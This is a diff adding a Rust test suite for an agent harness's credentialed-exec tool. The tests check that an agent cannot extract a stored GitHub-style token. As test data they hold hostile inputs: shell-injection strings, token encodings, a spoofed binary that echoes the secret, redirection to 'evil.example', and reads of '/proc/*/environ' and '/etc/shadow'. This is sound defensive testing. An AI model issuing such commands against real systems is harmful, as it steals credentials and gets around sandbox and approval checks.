@@ -1,0 +1,468 @@
+//! Programs with credentials by the real road, in their real sandbox; and attempts to get at the credentials.
+
+use std::fs::{self, Permissions};
+use std::net::TcpListener;
+use std::os::unix::fs::{PermissionsExt as _, symlink};
+use std::process::Stdio;
+use std::time::{Duration, Instant};
+
+use serde_json::json;
+
+use crate::approvals::Waiting;
+use crate::harness::{Home, Ran};
+
+const TOKEN: &str = "hunter2-and-more-than-that";
+
+/// What is registered as `gh`.
+const STUB: &str = r#"#!/bin/bash
+case "$1" in
+  show) echo "token: $GH_TOKEN"; printf %s "$GH_TOKEN" | base64; printf %s "$GH_TOKEN" | od -An -tx1 | tr -d ' \n' ;;
+  split) printf %s "${GH_TOKEN:0:9}"; sleep 0.2; printf '%s\n' "${GH_TOKEN:9}" ;;
+  fail) echo "no: $GH_TOKEN" >&2; exit 7 ;;
+  read) cat "$2" ;;
+  home) echo "$HOME"; cat "$HOME/.config/gh/config.yml" ;;
+  connect) exec 3<>"/dev/tcp/127.0.0.1/$2" && echo connected ;;
+  write) echo "$2" > made ;;
+  wait) echo waiting; sleep 300 "$2" ;;
+  *) for argument; do echo "<$argument>"; done ;;
+esac
+"#;
+
+fn install(home: &Home) {
+    fs::create_dir(home.path().join("bin")).unwrap();
+    let program = home.write("bin/gh", STUB);
+    fs::set_permissions(program, Permissions::from_mode(0o755)).unwrap();
+}
+
+#[track_caller]
+fn add(home: &Home, words: &[&str]) {
+    let binary = home.path().join("bin/gh");
+    let words = [&["credentials", "add", "gh", "--binary", binary.to_str().unwrap()], words].concat();
+    let ran = home.ran(home.command(&words).write_stdin(TOKEN));
+    assert_eq!(ran.code, 0, "{}", ran.shown());
+}
+
+/// A home with `gh`, which has a token.
+fn with_config(config: &str) -> Home {
+    let home = Home::with_config(config);
+    install(&home);
+    add(&home, &[]);
+    home
+}
+
+fn home() -> Home {
+    with_config("")
+}
+
+fn call_as(home: &Home, tool: &str, command: &str, words: &[&str]) -> Ran {
+    let args = json!({ "command": command }).to_string();
+    let ran = home.run(&[&["tools", "call", tool, "--user", "asker", &args], words].concat());
+    assert!(!ran.shown().contains("hunter2"), "{}", ran.shown());
+    ran
+}
+
+fn gh(home: &Home, command: &str) -> Ran {
+    call_as(home, "credentialed_exec", command, &[])
+}
+
+fn sh(home: &Home, command: &str) -> Ran {
+    call_as(home, "exec", command, &[])
+}
+
+#[track_caller]
+fn refused(ran: &Ran, why: &str) {
+    assert!(ran.code == 3 && ran.stderr.contains(why), "{}", ran.shown());
+}
+
+#[test]
+fn it_gets_its_arguments_and_its_end_is_told() {
+    let home = home();
+    let args =
+        json!({ "command": "gh pr 'a b'", "arguments": ["x; | $(y)", ""], "directory": "." }).to_string();
+    let ran = home.run(&["tools", "call", "credentialed_exec", &args]);
+    assert_eq!(ran.stdout, "<pr>\n<a b>\n<x; | $(y)>\n<>\n[exit code 0]\n", "{}", ran.shown());
+    assert_eq!(gh(&home, "gh fail").stdout, "no: [REDACTED]\n[exit code 7]\n");
+    assert_eq!(gh(&home, "gh write text").code, 0);
+    assert_eq!(fs::read_to_string(home.path().join("project/made")).unwrap(), "text\n");
+    let binary = home.path().join("bin/gh");
+    assert_eq!(gh(&home, &format!("{} pr", binary.display())).stdout, "<pr>\n[exit code 0]\n");
+    refused(&gh(&home, "aws s3 ls"), "no program `aws` is registered for this agent; registered are `gh`");
+}
+
+#[test]
+fn refuses_to_show_the_value_in_any_form_or_place() {
+    let home = home();
+    let shown = gh(&home, "gh show");
+    assert!(shown.stdout.starts_with("token: [REDACTED]\n"), "{}", shown.shown());
+    for form in ["aHVudGVyMi1hbmQtbW9yZ", "68756e74657232"] {
+        assert!(!shown.stdout.contains(form), "{}", shown.shown());
+    }
+    // Over two writes, on the way to a terminal.
+    assert_eq!(gh(&home, "gh split").stdout, "[REDACTED]\n[exit code 0]\n");
+    let json = home.run(&["tools", "call", "credentialed_exec", "--json", r#"{"command": "gh show"}"#]);
+    assert!(!json.stdout.contains("hunter2"), "{}", json.stdout);
+    for words in [&["ledger", "show", "--json"][..], &["credentials", "list", "--json"]] {
+        let ran = home.run(words);
+        assert!(ran.code == 0 && !ran.stdout.contains("hunter2"), "{}", ran.shown());
+    }
+    // Neither the store, nor kept results, nor anything beside them holds it.
+    let mut files = 0;
+    let mut left = vec![home.data()];
+    while let Some(path) = left.pop() {
+        match path.is_dir() {
+            true => left.extend(fs::read_dir(path).unwrap().map(|entry| entry.unwrap().path())),
+            false => {
+                files += 1;
+                let bytes = fs::read(&path).unwrap();
+                assert!(!bytes.windows(7).any(|part| part == b"hunter2"), "{}", path.display());
+            }
+        }
+    }
+    assert!(files > 1, "there is a store and there are keys");
+}
+
+#[test]
+fn refuses_to_show_the_value_among_the_arguments_of_any_process() {
+    let home = home();
+    let mark = format!("30{}", std::process::id());
+    let command = json!({ "command": format!("gh wait {mark}") }).to_string();
+    let mut child = std::process::Command::new(assert_cmd::cargo::cargo_bin!("clawsmith"))
+        .env_clear()
+        .env("HOME", home.path())
+        .current_dir(home.path().join("project"))
+        .args(["tools", "call", "credentialed_exec", &command])
+        .stdin(Stdio::null())
+        .stdout(Stdio::null())
+        .stderr(Stdio::null())
+        .spawn()
+        .unwrap();
+    let lines = || {
+        let entries = fs::read_dir("/proc").unwrap().flatten();
+        entries.filter_map(|entry| fs::read(entry.path().join("cmdline")).ok()).collect::<Vec<_>>()
+    };
+    let is_there = |line: &Vec<u8>| line.split(|byte| *byte == 0).any(|word| word == mark.as_bytes());
+    let begun = Instant::now();
+    while !lines().iter().any(is_there) {
+        assert!(begun.elapsed() < Duration::from_secs(60), "it did not start");
+        std::thread::sleep(Duration::from_millis(20));
+    }
+    let told = lines().iter().any(|line| line.windows(7).any(|part| part == b"hunter2"));
+    child.kill().unwrap();
+    child.wait().unwrap();
+    assert!(!told);
+}
+
+#[test]
+fn refuses_what_only_a_shell_would_understand() {
+    let home = home();
+    for command in [
+        "gh pr | cat",
+        "gh pr; id",
+        "gh pr && id",
+        "gh $(id)",
+        "gh `id`",
+        "gh pr > made",
+        "gh ${X}",
+        "gh pr\nid",
+    ] {
+        let ran = gh(&home, command);
+        assert!(ran.code == 1 && ran.stderr.contains("`command` h"), "{command}: {}", ran.shown());
+    }
+    assert!(!home.path().join("project/made").exists());
+}
+
+#[test]
+fn refuses_another_file_of_the_same_name() {
+    let home = home();
+    let evil = home.write("project/gh", "#!/bin/sh\necho \"evil $GH_TOKEN\"\n");
+    fs::set_permissions(&evil, Permissions::from_mode(0o755)).unwrap();
+    for command in ["./gh pr", "../project/gh pr", "/usr/bin/gh pr", &format!("{} pr", evil.display())] {
+        refused(&gh(&home, command), "is not the registered `gh`");
+        refused(&sh(&home, command), "is not the registered `gh`");
+    }
+    // A link to the real one is the real one.
+    symlink(home.path().join("bin/gh"), home.path().join("project/sub-gh")).unwrap();
+    fs::create_dir(home.path().join("project/sub")).unwrap();
+    symlink(home.path().join("bin/gh"), home.path().join("project/sub/gh")).unwrap();
+    assert_eq!(gh(&home, "sub/gh pr").stdout, "<pr>\n[exit code 0]\n");
+    refused(&gh(&home, "./sub-gh pr"), "no program `./sub-gh` is registered");
+}
+
+#[test]
+fn refuses_a_program_that_was_swapped_since_it_was_added() {
+    let home = home();
+    let binary = home.path().join("bin/gh");
+    fs::write(&binary, STUB.replace("exit 7", "exit 8")).unwrap();
+    refused(&gh(&home, "gh pr"), "is not what it was when `gh` was registered");
+    refused(&sh(&home, "gh pr"), "is not what it was when `gh` was registered");
+    let tested = home.run(&["credentials", "test", "gh"]);
+    assert!(tested.code == 1 && tested.stderr.contains("credentials accept gh"), "{}", tested.shown());
+    assert_eq!(
+        home.run(&["credentials", "accept", "gh"]).stdout,
+        "program `gh`: `~/bin/gh` is taken as it is now\n"
+    );
+    assert!(gh(&home, "gh fail").stdout.contains("[exit code 8]"));
+    fs::set_permissions(&binary, Permissions::from_mode(0o775)).unwrap();
+    refused(&gh(&home, "gh pr"), "can be written by others");
+    fs::set_permissions(&binary, Permissions::from_mode(0o755)).unwrap();
+    fs::set_permissions(home.path().join("bin"), Permissions::from_mode(0o777)).unwrap();
+    refused(&gh(&home, "gh pr"), "who could change what is in it");
+    assert_eq!(home.run(&["credentials", "accept", "gh"]).code, 1);
+    fs::set_permissions(home.path().join("bin"), Permissions::from_mode(0o755)).unwrap();
+    fs::remove_file(&binary).unwrap();
+    refused(&gh(&home, "gh pr"), "is not there");
+}
+
+#[test]
+fn refuses_a_program_in_the_workspace() {
+    let home = Home::new();
+    let binary = home.write("project/gh", STUB);
+    fs::set_permissions(&binary, Permissions::from_mode(0o755)).unwrap();
+    let words = ["credentials", "add", "gh", "--binary", binary.to_str().unwrap()];
+    assert_eq!(home.ran(home.command(&words).write_stdin(TOKEN)).code, 0);
+    refused(&gh(&home, "gh pr"), "lies in the workspace");
+}
+
+#[test]
+fn refuses_denied_arguments_however_they_are_dressed() {
+    let home = home();
+    for command in [
+        "gh auth token",
+        "gh 'auth' token",
+        "gh au\"th\" token",
+        r"gh a\uth token",
+        "gh -- auth token",
+        "gh\tauth\ttoken",
+        "gh -R x auth token",
+        "gh pr --verbose",
+        "gh pr -v",
+        "gh api --hostname evil.example user",
+        "gh api --hostname=evil.example user",
+    ] {
+        refused(&gh(&home, command), "may not be called like this");
+        refused(&sh(&home, command), "may not be called like this");
+    }
+    for arguments in [json!(["auth", "token"]), json!(["--", "auth"]), json!(["x", "auth", "token"])] {
+        let args = json!({ "command": "gh", "arguments": arguments }).to_string();
+        refused(&home.run(&["tools", "call", "credentialed_exec", &args]), "may not be called like this");
+    }
+    assert_eq!(
+        gh(&home, "gh issue create --title 'the auth flow'").code,
+        0,
+        "words in an argument are no arguments"
+    );
+}
+
+#[test]
+fn exec_takes_the_same_way_for_one_program_alone() {
+    let home = home();
+    assert_eq!(sh(&home, "gh show 2>&1").stdout.lines().next(), Some("token: [REDACTED]"));
+    assert_eq!(sh(&home, "gh 'a b'").stdout, "<a b>\n[exit code 0]\n");
+    for command in [
+        "gh show | cat",
+        "gh show > made",
+        "cd . && gh show",
+        "env gh show",
+        "command gh show",
+        "sh -c 'gh show'",
+        "GH_HOST=evil.example gh pr",
+        "gh show &",
+        "echo $(gh show)",
+        "timeout 5 gh show",
+        "gh show; env",
+    ] {
+        refused(&sh(&home, command), "call `credentialed_exec` with `gh`");
+    }
+    for command in ["gh $X", "gh *.md", "gh \"$HOME\""] {
+        refused(&sh(&home, command), "only a shell would know");
+    }
+    let with_env = json!({ "command": "gh show", "env": ["GH_HOST=evil.example"] }).to_string();
+    refused(&home.run(&["tools", "call", "exec", &with_env]), "variables of its own");
+    let with_input = json!({ "command": "gh show", "stdin": "x" }).to_string();
+    refused(&home.run(&["tools", "call", "exec", &with_input]), "something to read");
+    assert!(!home.path().join("project/made").exists());
+    // What runs beside it has nothing of it.
+    let ran = sh(&home, "env; cat /proc/*/environ | tr '\\0' '\\n'");
+    assert!(!ran.stdout.contains("GH_TOKEN"), "{}", ran.shown());
+}
+
+#[test]
+fn refuses_who_may_not_use_the_tool_by_whatever_way() {
+    let home = with_config("[tools]\ndeny = [\"credentialed_exec\"]\n");
+    assert_eq!(gh(&home, "gh show").code, 3);
+    // Without the tool it is a program like any other, which is not in the sandbox's path.
+    let ran = sh(&home, "gh show");
+    assert!(ran.stdout.contains("gh: command not found"), "{}", ran.shown());
+    let home = with_config("[tools]\ndeny = [\"effect:network\"]\n");
+    assert_eq!(gh(&home, "gh show").code, 3);
+    assert!(sh(&home, "gh show").stdout.contains("command not found"));
+    let home = with_config("[approvals]\nsecurity = \"deny\"\n");
+    refused(&gh(&home, "gh show"), "`approvals.security` is `deny`");
+    let home = with_config("[approvals.effects]\nnetwork = \"deny\"\n");
+    refused(&gh(&home, "gh show"), "`approvals.effects.network` says deny");
+    refused(&sh(&home, "gh show"), "`approvals.effects.network` says deny");
+}
+
+#[test]
+fn refuses_other_agents_and_tenants() {
+    let home = Home::new();
+    install(&home);
+    add(&home, &["--agent", "ada"]);
+    let tool = "credentialed_exec";
+    assert_eq!(call_as(&home, tool, "gh pr", &["--agent", "ada"]).stdout, "<pr>\n[exit code 0]\n");
+    refused(&call_as(&home, tool, "gh pr", &["--agent", "bob"]), "none is registered");
+    assert!(call_as(&home, "exec", "gh show", &["--agent", "bob"]).stdout.contains("command not found"));
+    let args = json!({ "command": "gh pr" }).to_string();
+    let other =
+        home.run_with(&[("CLAWSMITH_TENANT", "other")], &["tools", "call", tool, "--agent", "ada", &args]);
+    refused(&other, "none is registered");
+    // An agent's own goes before its tenant's, and a disabled one does not give way to it.
+    let row = json!({ "binary_name": "gh", "binary_path": home.path().join("bin/gh"), "encrypted_env": { "GH_TOKEN": TOKEN },
+        "deny_args": ["pr"], "enabled": true });
+    home.write("project/row.json", row.to_string());
+    assert_eq!(home.run(&["credentials", "add", "--file", "row.json"]).code, 0);
+    refused(&call_as(&home, tool, "gh pr", &["--agent", "bob"]), "`pr` in `deny_args` matches");
+    assert_eq!(call_as(&home, tool, "gh pr", &["--agent", "ada"]).code, 0);
+    let off = row.to_string().replace("\"enabled\":true", "\"enabled\":false");
+    home.write("project/row.json", off);
+    assert_eq!(home.run(&["credentials", "add", "--file", "row.json", "--agent", "ada"]).code, 0);
+    refused(&call_as(&home, tool, "gh x", &["--agent", "ada"]), "`gh` is disabled");
+}
+
+#[test]
+fn only_its_own_sandbox_has_the_network() {
+    let home = home();
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let ran = gh(&home, &format!("gh connect {port}"));
+    assert_eq!(ran.stdout, "connected\n[exit code 0]\n", "{}", ran.shown());
+    home.write("project/connect.sh", STUB);
+    let ran = sh(&home, &format!("bash connect.sh connect {port}"));
+    assert!(!ran.stdout.contains("connected\n"), "{}", ran.shown());
+}
+
+#[test]
+fn refuses_to_read_its_own_variables_as_a_file() {
+    let home = home();
+    symlink("/proc/self/environ", home.path().join("project/notes.md")).unwrap();
+    for path in [
+        "/proc/self/environ",
+        "notes.md",
+        "/proc/1/environ",
+        "/dev/fd/../environ",
+        "/proc/thread-self/environ",
+    ] {
+        let ran = gh(&home, &format!("gh read {path}"));
+        assert!(!ran.stdout.contains("GH_TOKEN") && ran.stdout.contains("[exit code 1]"), "{}", ran.shown());
+    }
+    for path in [home.data().join("clawsmith.db"), home.data().join("keys/ring"), "/etc/shadow".into()] {
+        assert!(gh(&home, &format!("gh read {}", path.display())).stdout.contains("[exit code 1]"));
+    }
+}
+
+#[test]
+fn refuses_a_configuration_that_an_agent_wrote() {
+    let home = home();
+    fs::create_dir_all(home.path().join("project/.config/gh")).unwrap();
+    home.write("project/.config/gh/config.yml", "aliases: evil");
+    let ran = gh(&home, "gh home");
+    assert!(ran.stdout.starts_with("/tmp\n") && !ran.stdout.contains("evil"), "{}", ran.shown());
+}
+
+#[test]
+fn its_time_is_that_of_its_row() {
+    let home = Home::new();
+    install(&home);
+    add(&home, &["--timeout", "1"]);
+    let ran = gh(&home, "gh wait 1");
+    assert!(ran.stdout.contains("the time that it is registered with was up"), "{}", ran.shown());
+    assert!(sh(&home, "gh wait 1").stdout.contains("[ended by signal 15 (SIGTERM)]"));
+}
+
+#[test]
+fn a_person_sees_program_arguments_names_and_sandbox() {
+    let home = with_config("[approvals]\nask = \"always\"\n");
+    refused(&gh(&home, "gh pr list"), "nobody can be asked");
+    let call = Waiting::start(&home, &["credentialed_exec", r#"{"command": "gh pr list"}"#]);
+    let shown = home.run(&["approvals", "show", &call.id]).stdout;
+    for part in [
+        r#"["gh", "pr", "list"]"#,
+        "which is the registered program ~/bin/gh",
+        "with the credentials GH_TOKEN",
+        "in the kernel sandbox: workspace read and write, the network of this machine",
+    ] {
+        assert!(shown.contains(part), "{part}: {shown}");
+    }
+    assert!(!shown.contains("hunter2"));
+    assert_eq!(home.run(&["approvals", "approve", &call.id]).code, 0);
+    let ended = call.end();
+    assert_eq!(ended.stdout, "<pr>\n<list>\n[exit code 0]\n", "{}", ended.stderr);
+    let call = Waiting::start(&home, &["exec", r#"{"command": "gh pr list"}"#]);
+    assert!(home.run(&["approvals", "show", &call.id]).stdout.contains("with the credentials GH_TOKEN"));
+    assert_eq!(home.run(&["approvals", "deny", &call.id]).code, 0);
+    assert_eq!(call.end().code, 3);
+}
+
+#[test]
+fn refuses_what_changed_while_the_question_waited() {
+    let home = with_config("[approvals]\nask = \"always\"\n");
+    let start = || Waiting::start(&home, &["credentialed_exec", r#"{"command": "gh pr list"}"#]);
+    let ended = |call: Waiting| {
+        assert_eq!(home.run(&["approvals", "approve", &call.id]).code, 0);
+        call.end()
+    };
+    let call = start();
+    fs::write(home.path().join("bin/gh"), STUB.replace("exit 7", "exit 8")).unwrap();
+    let ran = ended(call);
+    assert!(ran.code != 0 && ran.stderr.contains("is not what it was"), "{}", ran.shown());
+    assert_eq!(home.run(&["credentials", "accept", "gh"]).code, 0);
+    let call = start();
+    add(&home, &["--deny-args", "list"]);
+    let ran = ended(call);
+    assert!(ran.code == 3 && ran.stderr.contains("changed while the question waited"), "{}", ran.shown());
+    add(&home, &[]);
+    let call = start();
+    assert_eq!(home.run(&["credentials", "remove", "gh"]).code, 0);
+    assert_eq!(ended(call).code, 3);
+}
+
+#[test]
+fn refuses_a_rule_for_the_plain_program_in_place_of_one_for_its_credentials() {
+    let strict = "[approvals]\nsecurity = \"allowlist\"\n";
+    let home = with_config(strict);
+    assert_eq!(home.run(&["credentials", "remove", "gh"]).code, 0);
+    let binary = home.path().join("bin/gh");
+    let approve = |tool: &str, command: &str| {
+        let args = json!({ "command": command }).to_string();
+        let call = Waiting::start(&home, &[tool, &args]);
+        let approved = home.run(&["approvals", "approve", &call.id, "--always"]);
+        assert_eq!(approved.code, 0, "{}", approved.shown());
+        call.end();
+        approved.stdout
+    };
+    // A yes to the program without credentials...
+    approve("exec", &format!("{} pr", binary.display()));
+    add(&home, &[]);
+    // ...is none to it with them.
+    refused(&sh(&home, &format!("{} pr", binary.display())), "needs an approval");
+    refused(&gh(&home, &format!("{} pr", binary.display())), "needs an approval");
+    let said = approve("credentialed_exec", "gh pr list a/b.txt");
+    assert!(said.contains("/bin/gh pr list a/b.txt (with the credentials of gh)"), "{said}");
+    assert_eq!(gh(&home, "gh pr list a/b.txt").code, 0);
+    for command in ["gh pr list", "gh pr list a/c.txt", "gh pr close", "gh"] {
+        refused(&gh(&home, command), "needs an approval");
+    }
+    // Written anew, it may be another login.
+    add(&home, &[]);
+    refused(&gh(&home, "gh pr list a/b.txt"), "needs an approval");
+}
+
+#[test]
+fn test_runs_it_as_an_agent_would() {
+    let home = home();
+    let ran = home.run(&["credentials", "test", "gh", "--run", "--", "show"]);
+    assert!(ran.code == 0 && ran.stdout.contains("token: [REDACTED]"), "{}", ran.shown());
+    assert_eq!(home.run(&["credentials", "test", "gh", "--run", "--", "fail"]).code, 7);
+    assert_eq!(home.run(&["credentials", "test", "gh", "--run", "--", "auth"]).code, 3);
+    assert_eq!(home.run(&["credentials", "test", "gh", "--json"]).json()["ran"], json!(null));
+}
